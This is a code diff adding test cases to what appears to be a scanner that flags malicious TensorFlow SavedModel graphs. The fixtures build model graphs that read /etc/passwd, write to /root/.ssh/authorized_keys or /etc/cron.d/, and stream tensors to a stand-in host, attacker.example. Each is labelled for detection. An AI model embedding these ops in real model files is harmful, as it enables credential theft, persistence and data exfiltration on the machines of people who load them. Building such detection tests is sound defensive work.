@@ -150,6 +150,45 @@ fn extra_nodes(spec: &str, suffix: usize, in_function: bool) -> Vec<Proto> {
                 &[],
             ),
         ],
+        "CSVDataset" | "DatasetToTFRecord" => vec![
+            const_string(&path, arg.unwrap_or("/etc/passwd")),
+            node(&format!("{op}_{suffix}"), op, &[&input(&path)], &[]),
+        ],
+        "DebugIdentity" => vec![node(
+            &format!("DebugIdentity_{suffix}"),
+            "DebugIdentity",
+            &["serving_default_input"],
+            &[attr(
+                "debug_urls",
+                Proto::new().message(
+                    1,
+                    &Proto::new()
+                        .bytes(2, arg.unwrap_or("grpc://attacker.example:6064").as_bytes()),
+                ),
+            )],
+        )],
+        // `SaveV2` whose prefix is computed: StringJoin of two constants.
+        "SaveV2" => {
+            let (a, b) = arg
+                .and_then(|a| a.split_once('+'))
+                .unwrap_or(("/etc/cron.d/", "job"));
+            let (left, right, joined) = (
+                format!("left_{suffix}"),
+                format!("right_{suffix}"),
+                format!("join_{suffix}"),
+            );
+            vec![
+                const_string(&left, a),
+                const_string(&right, b),
+                node(&joined, "StringJoin", &[&input(&left), &input(&right)], &[]),
+                node(
+                    &format!("SaveV2_{suffix}"),
+                    "SaveV2",
+                    &[&input(&joined)],
+                    &[],
+                ),
+            ]
+        }
         other => vec![node(&format!("{other}_{suffix}"), other, &[], &[])],
     }
 }
@@ -447,6 +486,40 @@ pub fn corpus() -> Vec<Case> {
     const PATH: &str = "path outside the SavedModel directory";
     const LAMBDA: &str = "Keras Lambda bytecode in keras_metadata.pb";
     vec![
+        Case::malicious(
+            "savedmodel/dataset-to-tfrecord",
+            "saved_model.pb",
+            with_ops(&["DatasetToTFRecord:/root/.ssh/authorized_keys"], &[]),
+            "AEG-SCAN-701",
+            FILE,
+        ),
+        Case::malicious(
+            "savedmodel/csv-dataset-system-file",
+            "saved_model.pb",
+            with_ops(&[], &["CSVDataset:/etc/passwd"]),
+            "AEG-SCAN-701",
+            FILE,
+        ),
+        Case::malicious(
+            "savedmodel/debug-identity-grpc",
+            "saved_model.pb",
+            with_ops(&["DebugIdentity"], &[]),
+            "AEG-SCAN-701",
+            "debug op streaming tensors to a remote debugger",
+        ),
+        Case::malicious(
+            "savedmodel/savev2-stringjoin-path",
+            "saved_model.pb",
+            with_ops(&["SaveV2:/etc/cron.d/+job"], &[]),
+            "AEG-SCAN-702",
+            PATH,
+        ),
+        Case::benign(
+            "savedmodel/savev2-stringjoin-inside",
+            "saved_model.pb",
+            with_ops(&["SaveV2:variables/+variables"], &[]),
+            PATH,
+        ),
         Case::malicious(
             "savedmodel/pyfunc-in-graph",
             "saved_model.pb",
